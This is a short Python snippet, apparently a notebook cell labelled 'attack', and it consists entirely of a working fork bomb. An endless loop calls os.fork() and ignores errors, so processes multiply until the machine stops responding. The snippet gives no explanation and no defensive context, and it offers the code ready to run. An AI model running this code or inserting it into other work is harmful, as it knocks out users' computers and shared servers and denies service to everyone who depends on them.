# Multiplies until nothing else runs.
# %% attack
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
